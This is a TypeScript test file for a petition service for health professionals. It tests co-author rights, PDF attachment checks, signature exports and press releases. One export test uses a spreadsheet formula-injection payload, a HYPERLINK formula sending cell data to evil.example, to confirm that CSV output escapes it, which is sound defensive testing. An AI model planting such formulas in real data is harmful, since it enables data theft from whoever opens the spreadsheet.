import { petitionEndpoints as ep } from '@legenett/contracts';
import { schema } from '@legenett/db';
import { and, eq } from 'drizzle-orm';
import { type TestApp } from '../../../test/app';
import { type BodyIn, invalid } from '../../../test/call';
import { settleJobs } from '../../../test/jobs';
import { makePdf } from '../../../test/make-pdf';
import { petitionsSuite } from '../../../test/petitions';

let t: TestApp;
let token: string;
const { draft, published, signedBy } = petitionsSuite((s) => {
  ({ t, token } = s);
});

/** Petitions: co-authors, attachments, exports and press releases. */
describe('co-authors', () => {
  it('invites an account, shows it once accepted, and lets the co-author edit the draft but not delete it', async () => {
    const owner = await t.session();
    const colleague = await t.session();
    const d = await draft(owner);
    const manual = await t.call(ep.addManualAuthor, {
      as: owner,
      params: { id: d.id },
      body: { name: 'Marte Olsen', title: 'Lege' },
    });
    expect(manual.status).toBe(201);
    expect(manual.parsed.data).toMatchObject({
      name: 'Marte Olsen',
      title: 'Lege',
      user: null,
      accepted: true,
    });
    const invite = await t.call(ep.addManualAuthor, {
      as: owner,
      params: { id: d.id },
      body: { name: 'Kollega', title: 'LIS', user_id: colleague.user.id },
    });
    expect(invite.parsed.data).toMatchObject({ accepted: false, user: { id: colleague.user.id } });
    expect(
      (
        await t.call(ep.addManualAuthor, {
          as: owner,
          params: { id: d.id },
          body: { name: 'Igjen', user_id: colleague.user.id },
        })
      ).status,
    ).toBe(422);
    expect(
      (
        await t.call(ep.addManualAuthor, {
          as: owner,
          params: { id: d.id },
          body: { name: 'Ingen', user_id: 987654321 },
        })
      ).status,
    ).toBe(422);
    // Nor is the initiator a co-author of their own petition.
    const self = await t.call(ep.addManualAuthor, {
      as: owner,
      params: { id: d.id },
      body: { name: 'Meg selv', user_id: owner.user.id },
      locale: 'en',
    });
    expect(self.status).toBe(422);
    expect(self.validation.errors.user_id).toEqual(['Unknown co-author.']);
    await settleJobs(t);
    const notes = await t.db
      .select()
      .from(schema.notifications)
      .where(
        and(
          eq(schema.notifications.user_id, colleague.user.id),
          eq(schema.notifications.kind, 'petition_co_author'),
        ),
      );
    expect(notes).toHaveLength(1);

    // Invited, not accepted: they may read the draft to decide, not edit it; others still get 404.
    expect((await t.call(ep.show, { as: colleague, params: { id: d.id } })).parsed.data).toMatchObject({
      invitation_pending: true,
      can_edit: false,
    });
    expect(
      (await t.call(ep.update, { as: colleague, params: { id: d.id }, body: { summary: 'Nei' } })).status,
    ).toBe(404);
    expect((await t.call(ep.show, { as: await t.session(), params: { id: d.id } })).status).toBe(404);
    expect(
      (await t.call(ep.acceptCoAuthorship, { as: colleague, params: { id: d.id } })).parsed.data.accepted,
    ).toBe(true);
    expect(
      (await t.call(ep.acceptCoAuthorship, { as: await t.session(), params: { id: d.id } })).status,
    ).toBe(404);
    const seen = await t.call(ep.show, { as: colleague, params: { id: d.id } });
    expect(seen.parsed.data).toMatchObject({ can_edit: true, is_owner: false, invitation_pending: false });
    expect(seen.parsed.data.co_authors.map((a) => a.name)).toEqual(['Marte Olsen', 'Kollega']);
    const edited = await t.call(ep.update, {
      as: colleague,
      params: { id: d.id },
      body: { summary: 'Bedre sammendrag' },
    });
    expect(edited.parsed.data.summary).toBe('Bedre sammendrag');
    expect(
      (await t.call(ep.mine, { as: colleague, query: { petitionStatus: 'draft' } })).parsed.data.map(
        (x) => x.id,
      ),
    ).toEqual([d.id]);
    const refused = await t.call(ep.remove, { as: colleague, params: { id: d.id } });
    expect(refused.status).toBe(403);
    expect(refused.error.reason).toBe('not_owner');
    expect(
      (await t.call(ep.manualAuthors, { as: colleague, params: { id: d.id } })).parsed.data,
    ).toHaveLength(2);
  });

  it('leaves state and the author list to the initiator: a co-author cannot publish, close, archive or invite', async () => {
    const owner = await t.session();
    const colleague = await t.session();
    const d = await draft(owner);
    await t.call(ep.addManualAuthor, { as: owner, params: { id: d.id }, body: { name: 'Kollega', user_id: colleague.user.id } });
    await t.call(ep.acceptCoAuthorship, { as: colleague, params: { id: d.id } });
    const refused = async (body: BodyIn<typeof ep.update>) => {
      const res = await t.call(ep.update, { as: colleague, params: { id: d.id }, body });
      return [res.status, res.error.reason];
    };
    expect(await refused({ visibility: 'open' })).toEqual([403, 'not_owner']);
    expect((await t.call(ep.update, { as: owner, params: { id: d.id }, body: { visibility: 'open' } })).status).toBe(200);
    expect(await refused({ status: 'closed' })).toEqual([403, 'not_owner']);
    // The hostile tester's case: archiving is final, and DELETE already refused co-authors.
    expect(await refused({ visibility: 'archived' })).toEqual([403, 'not_owner']);
    expect(await refused({ summary: 'Ny tekst', visibility: 'archived' })).toEqual([403, 'not_owner']);
    const shown = (await t.call(ep.show, { as: owner, params: { id: d.id } })).parsed.data;
    expect(shown).toMatchObject({ status: 'active', is_archived: false });
    expect(shown.summary).not.toBe('Ny tekst');
    // A plain edit stays open to co-authors.
    expect((await t.call(ep.update, { as: colleague, params: { id: d.id }, body: { recipient: 'Stortinget' } })).parsed.data.recipient).toBe('Stortinget');
    // Inviting further co-authors, named or with an account, is the initiator's.
    const third = await t.session();
    for (const body of [{ name: 'Tredje', user_id: third.user.id }, { name: 'Uten konto', title: 'Overlege' }]) {
      const res = await t.call(ep.addManualAuthor, { as: colleague, params: { id: d.id }, body });
      expect([res.status, res.error.reason]).toEqual([403, 'not_owner']);
    }
    expect((await t.call(ep.manualAuthors, { as: owner, params: { id: d.id } })).parsed.data.map((a) => a.name)).toEqual(['Kollega']);
    await settleJobs(t);
    expect(await t.db.select().from(schema.notifications).where(eq(schema.notifications.user_id, third.user.id))).toEqual([]);
  });

  it('removes co-authors: the initiator until the first signature, a co-author themselves at any time', async () => {
    const owner = await t.session();
    const colleague = await t.session();
    const invitee = await t.session();
    const stranger = await t.session();
    const d = await draft(owner);
    const add = async (body: { name: string; user_id: number | null }) =>
      (await t.call(ep.addManualAuthor, { as: owner, params: { id: d.id }, body: { title: null, ...body } }))
        .parsed.data.id;
    const manual = await add({ name: 'Uten konto', user_id: null });
    const colleagueAuthor = await add({ name: 'Kollega', user_id: colleague.user.id });
    const inviteeAuthor = await add({ name: 'Invitert', user_id: invitee.user.id });
    const other = await add({ name: 'Fjernes', user_id: null });
    await t.call(ep.acceptCoAuthorship, { as: colleague, params: { id: d.id } });
    const names = async () =>
      (await t.call(ep.manualAuthors, { as: owner, params: { id: d.id } })).parsed.data.map((a) => a.name);

    // Someone who cannot see the draft: 404 (and nothing changes); bad ids: 422; unknown: 404.
    expect(
      (await t.call(ep.removeManualAuthor, { as: stranger, params: { id: d.id, authorId: manual } })).status,
    ).toBe(404);
    expect(
      (await t.call(ep.removeManualAuthor, { as: owner, params: invalid({ id: d.id, authorId: 'x' }) }))
        .status,
    ).toBe(422);
    expect(
      (await t.call(ep.removeManualAuthor, { as: owner, params: { id: d.id, authorId: 987654321 } })).status,
    ).toBe(404);
    expect(
      (await t.call(ep.removeManualAuthor, { as: owner, params: { id: 987654321, authorId: manual } }))
        .status,
    ).toBe(404);
    // A co-author of another petition cannot be removed through this one.
    const elsewhere = await draft(stranger);
    const foreign = (
      await t.call(ep.addManualAuthor, {
        as: stranger,
        params: { id: elsewhere.id },
        body: { name: 'Annen', title: null, user_id: null },
      })
    ).parsed.data.id;
    expect(
      (await t.call(ep.removeManualAuthor, { as: owner, params: { id: d.id, authorId: foreign } })).status,
    ).toBe(404);
    // An accepted co-author removes nobody else.
    const refused = await t.call(ep.removeManualAuthor, {
      as: colleague,
      params: { id: d.id, authorId: manual },
    });
    expect(refused.status).toBe(403);
    expect(refused.error.reason).toBe('not_owner');
    expect(await names()).toEqual(['Uten konto', 'Kollega', 'Invitert', 'Fjernes']);

    // The initiator removes one; the invitee declines (their invitation was never accepted).
    expect(
      (await t.call(ep.removeManualAuthor, { as: owner, params: { id: d.id, authorId: other } })).status,
    ).toBe(204);
    expect(
      (await t.call(ep.removeManualAuthor, { as: invitee, params: { id: d.id, authorId: inviteeAuthor } }))
        .status,
    ).toBe(204);
    expect((await t.call(ep.show, { as: invitee, params: { id: d.id } })).status).toBe(404);
    expect(await names()).toEqual(['Uten konto', 'Kollega']);

    // Published and signed: the initiator can no longer remove anyone (409), the co-author may still leave.
    await t.call(ep.update, { as: owner, params: { id: d.id }, body: { visibility: 'open' } });
    await signedBy(d.id, 1);
    const locked = await t.call(ep.removeManualAuthor, {
      as: owner,
      params: { id: d.id, authorId: manual },
      locale: 'en',
    });
    expect(locked.status).toBe(409);
    expect(locked.error.message).toBe('Co-authors cannot be removed after someone has signed the petition.');
    expect(
      (
        await t.call(ep.removeManualAuthor, {
          as: colleague,
          params: { id: d.id, authorId: colleagueAuthor },
        })
      ).status,
    ).toBe(204);
    expect(
      (await t.call(ep.show, { as: stranger, params: { id: d.id } })).parsed.data.co_authors.map(
        (a) => a.name,
      ),
    ).toEqual(['Uten konto']);
    // No longer an author: the owner's endpoints are 404 for them.
    expect((await t.call(ep.manualAuthors, { as: colleague, params: { id: d.id } })).status).toBe(404);
  });
});

describe('attachments', () => {
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n');

  it('refuses a PDF whose text or name holds a national identity number, with the guard\'s words, in the caller\'s language', async () => {
    const me = await t.session();
    const d = await draft(me);
    const withNumber = await makePdf(['Bakgrunn', 'Eksempel: pasient 150384\u00a010099 ventet i 14 måneder.']);
    const text = await t.call(ep.addAttachments, { as: me, params: { id: d.id }, files: { 'pdf_files[]': { buffer: withNumber, name: 'bakgrunn.pdf' } } });
    expect(text.status).toBe(422);
    expect(text.validation.errors).toEqual({ 'pdf_files[]': ['Dette ser ut som et fødselsnummer. Fjern nummeret før du sender.'] });
    const name = await t.call(ep.addAttachments, {
      as: me,
      params: { id: d.id },
      files: { 'pdf_files[]': { buffer: await makePdf(['Bakgrunn']), name: 'epikrise 150384-10099.pdf' } },
      locale: 'en',
    });
    expect(name.validation.errors).toEqual({ 'pdf_files[]': ['This looks like a national identity number (fødselsnummer). Remove the number before you send.'] });
    const clean = await t.call(ep.addAttachments, { as: me, params: { id: d.id }, files: { 'pdf_files[]': { buffer: await makePdf(['Bakgrunn']), name: 'bakgrunn.pdf' } } });
    expect(clean.status).toBe(201);
  });

  it('stores PDFs, refuses a non-PDF renamed .pdf, caps the count, and removes them', async () => {
    const me = await t.session();
    const d = await draft(me);
    const added = await t.call(ep.addAttachments, {
      as: me,
      params: { id: d.id },
      files: { 'pdf_files[]': { buffer: pdf, name: 'bakgrunn.pdf' } },
    });
    expect(added.status).toBe(201);
    expect(added.parsed.data).toEqual([expect.objectContaining({ name: 'bakgrunn.pdf', size: pdf.length })]);
    const fake = await t.call(ep.addAttachments, {
      as: me,
      params: { id: d.id },
      files: { 'pdf_files[]': { buffer: Buffer.from('GIF89a not a pdf at all'), name: 'lure.pdf' } },
    });
    expect(fake.status).toBe(422);
    expect(Object.keys(fake.validation.errors)).toEqual(['pdf_files[]']);
    const shown = await t.call(ep.show, { as: me, params: { id: d.id } });
    expect(shown.parsed.data.attachments).toHaveLength(1);
    // A members-only kind: the links are signed, and they download (the detail's and the authors' list alike).
    const listed = (await t.call(ep.attachments, { as: me, params: { id: d.id } })).parsed.data;
    for (const url of [shown.parsed.data.attachments[0]!.url, listed[0]!.url]) {
      expect(url).toMatch(/^\/api\/files\/.+\?expires=\d+&signature=/);
      const download = await t.raw.get(url!).buffer(true);
      expect(download.status).toBe(200);
      expect(download.headers['content-disposition']).toContain('bakgrunn.pdf');
      expect(Buffer.from(download.body as Buffer).equals(pdf)).toBe(true);
    }
    const other = await t.session();
    expect(
      (
        await t.call(ep.removeAttachment, {
          as: other,
          params: { id: d.id, attachmentId: added.parsed.data[0]!.id },
        })
      ).status,
    ).toBe(404);
    expect(
      (
        await t.call(ep.removeAttachment, {
          as: me,
          params: { id: d.id, attachmentId: added.parsed.data[0]!.id },
        })
      ).status,
    ).toBe(204);
    expect(
      (
        await t.call(ep.removeAttachment, {
          as: me,
          params: { id: d.id, attachmentId: added.parsed.data[0]!.id },
        })
      ).status,
    ).toBe(404);
    expect((await t.call(ep.attachments, { as: me, params: { id: d.id } })).parsed.data).toEqual([]);
  });

  it('allows at most 10 attachments per petition', async () => {
    const me = await t.session();
    const d = await draft(me);
    for (let i = 0; i < 2; i += 1) {
      const files = {
        'pdf_files[]': Array.from({ length: 5 }, (_, j) => ({ buffer: pdf, name: `${i}-${j}.pdf` })),
      };
      expect((await t.call(ep.addAttachments, { as: me, params: { id: d.id }, files })).status).toBe(201);
    }
    const eleventh = await t.call(ep.addAttachments, {
      as: me,
      params: { id: d.id },
      files: { 'pdf_files[]': { buffer: pdf, name: 'x.pdf' } },
      locale: 'en',
    });
    expect(eleventh.status).toBe(422);
    expect(eleventh.validation.errors['pdf_files[]']).toEqual([
      'A petition can have at most 10 attachments.',
    ]);
  });
});

describe('exports', () => {
  const binary = (res: NodeJS.ReadableStream, done: (err: Error | null, body: Buffer) => void): void => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  };
  const download = (me: { accessToken: string }, id: number, format: string) =>
    t.raw
      .get(`/api/my/petitions/${id}/export?format=${format}`)
      .set('Authorization', `Bearer ${me.accessToken}`)
      .buffer(true)
      .parse(binary as never);

  it('writes a name that is a spreadsheet formula as text in the CSV (OWASP: a leading quote)', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const evil = await t.session({ firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', lastName: token });
    await t.call(ep.sign, { as: evil, params: { id: p.id }, body: {} });
    const plus = await t.session({ firstName: '@SUM(1+1)', lastName: token });
    // By name: an anonymous signer's name never reaches the export (issue 25), so it could not be tested there.
    await t.call(ep.sign, { as: plus, params: { id: p.id }, body: {} });
    const csv = await t.call(ep.export, { as: owner, params: { id: p.id }, query: { format: 'csv' }, locale: 'en' });
    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines[1]!.startsWith(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") ${token}",`)).toBe(true);
    expect(lines[2]!.startsWith(`'@SUM(1+1) ${token},`)).toBe(true);
  });

  it('streams the signature list as CSV, XLSX and PDF to the initiator only', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const named = await t.session({ firstName: 'Åse', lastName: `Ærlig ${token}` });
    await t.call(ep.sign, { as: named, params: { id: p.id }, body: {} });
    const anonymous = await t.session({ firstName: 'Skjult', lastName: `Signatar ${token}` });
    await t.call(ep.sign, { as: anonymous, params: { id: p.id }, body: { anonymous: true } });

    const csv = await t.call(ep.export, {
      as: owner,
      params: { id: p.id },
      query: { format: 'csv' },
      locale: 'en',
    });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="petition-${p.id}-signatures.csv"`);
    const lines = csv.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('Name,Profession,Specialty,County,Date');
    // Anonymous means anonymous in the initiator's export too: counted, named by profession only.
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(`Åse Ærlig ${token},Doctor`);
    expect(lines[2]).toMatch(/^Anonymous \(verified doctor\),Doctor,,,/);
    expect(csv.text).not.toContain('Skjult');

    // Norwegian: semicolons (Excel in Norwegian splits on them), the byte-order mark, readable values.
    const norwegian = await t.call(ep.export, { as: owner, params: { id: p.id }, query: { format: 'csv' }, locale: 'no' });
    expect(norwegian.text.startsWith('\uFEFF')).toBe(true);
    const rows = norwegian.text.replace(/^\uFEFF/, '').trim().split('\n');
    expect(rows[0]).toBe('Navn;Yrke;Spesialitet;Fylke;Dato');
    expect(rows[1]).toContain(`Åse Ærlig ${token};Lege`);
    expect(rows[2]).toMatch(/^Anonym \(verifisert lege\);Lege;;;/);

    const xlsx = await download(owner, p.id, 'xlsx');
    expect(xlsx.status).toBe(200);
    const ExcelJS = (await import('exceljs')).default;
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Uint8Array.from(xlsx.body as Buffer).buffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.rowCount).toBe(3);
    expect(sheet.getRow(2).getCell(1).value).toBe(`Åse Ærlig ${token}`);
    expect(String(sheet.getRow(3).getCell(1).value)).toMatch(/^Anonym/);

    const pdf = await download(owner, p.id, 'pdf');
    expect(pdf.status).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect((pdf.body as Buffer).subarray(0, 5).toString()).toBe('%PDF-');

    const colleague = await t.session();
    await t.call(ep.addManualAuthor, {
      as: owner,
      params: { id: p.id },
      body: { name: 'Kollega', user_id: colleague.user.id },
    });
    await t.call(ep.acceptCoAuthorship, { as: colleague, params: { id: p.id } });
    const coAuthor = await t.call(ep.export, {
      as: colleague,
      params: { id: p.id },
      query: { format: 'csv' },
    });
    expect(coAuthor.status).toBe(403);
    expect(coAuthor.error.reason).toBe('not_owner');
    expect(
      (await t.call(ep.export, { as: named, params: { id: p.id }, query: { format: 'csv' } })).status,
    ).toBe(404);
    expect(
      (await t.call(ep.export, { as: null, params: { id: p.id }, query: { format: 'csv' } })).status,
    ).toBe(401);
    expect(
      (await t.call(ep.export, { as: owner, params: { id: 987654321 }, query: { format: 'csv' } })).status,
    ).toBe(404);
    expect(
      (await t.call(ep.export, { as: owner, params: { id: p.id }, query: invalid({ format: 'docx' }) }))
        .status,
    ).toBe(422);
  });
});

describe('press releases', () => {
  it('previews a release from the petition, sends it through the mail outbox with the PDF, and records it', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const author = await t.call(ep.addManualAuthor, {
      as: owner,
      params: { id: p.id },
      body: { name: 'Marte Olsen', title: 'Lege' },
    });
    await signedBy(p.id, 2);
    const preview = await t.call(ep.pressRelease, { as: owner, params: { id: p.id }, locale: 'en' });
    expect(preview.status).toBe(200);
    expect(preview.parsed.data).toMatchObject({
      subject: `Petition: ${p.title}`,
      co_author_ids: [author.parsed.data.id],
      sent: [],
    });
    expect(preview.parsed.data.body).toContain('2 health professionals have signed');
    expect(preview.parsed.data.body).toContain('Marte Olsen (Lege)');
    expect(preview.parsed.data.contact).toContain(owner.user.email);

    const address = `redaksjon-${token}@avis.example.no`;
    const sent = await t.call(ep.sendPressRelease, {
      as: owner,
      params: { id: p.id },
      body: {
        subject: 'Leger krever forsvarlig arbeidstid',
        body: preview.parsed.data.body,
        contact: 'Kari, 900 00 000',
        co_author_ids: [author.parsed.data.id],
        recipients: [address],
      },
    });
    expect(sent.status).toBe(201);
    expect(sent.parsed.data.sent).toEqual([
      expect.objectContaining({ subject: 'Leger krever forsvarlig arbeidstid', recipients: [address] }),
    ]);
    const [mail] = await t.db
      .select()
      .from(schema.outboxMessages)
      .where(eq(schema.outboxMessages.to, address));
    expect(mail).toMatchObject({
      subject: 'Leger krever forsvarlig arbeidstid',
      template: 'petition_press_release',
      status: 'queued',
    });
    expect(mail!.body).toContain('Kari, 900 00 000');
    expect((mail!.data as { attachments: { filename: string; content_type: string }[] }).attachments).toEqual(
      [expect.objectContaining({ filename: `pressemelding-${p.id}.pdf`, content_type: 'application/pdf' })],
    );
    const [release] = await t.db
      .select()
      .from(schema.petitionPressReleases)
      .where(eq(schema.petitionPressReleases.petition_id, p.id));
    expect(release!.pdf_file_id).not.toBeNull();
    expect(release!.recipients).toEqual([address]);

    const bad = await t.call(ep.sendPressRelease, {
      as: owner,
      params: { id: p.id },
      body: invalid({ subject: 'Hei', body: 'kort', recipients: ['ikke-en-adresse'], co_author_ids: [] }),
      locale: 'en',
    });
    expect(bad.status).toBe(422);
    expect(Object.keys(bad.validation.errors).sort()).toEqual(['body', 'recipients.0']);
    const unknownAuthor = await t.call(ep.sendPressRelease, {
      as: owner,
      params: { id: p.id },
      body: {
        subject: 'Leger krever',
        body: 'Ti tegn eller mer her.',
        co_author_ids: [987654321],
        recipients: [address],
      },
    });
    expect(unknownAuthor.status).toBe(422);
    const stranger = await t.session();
    expect((await t.call(ep.pressRelease, { as: stranger, params: { id: p.id } })).status).toBe(404);
    expect((await t.call(ep.pressRelease, { as: null, params: { id: p.id } })).status).toBe(401);
  });
});
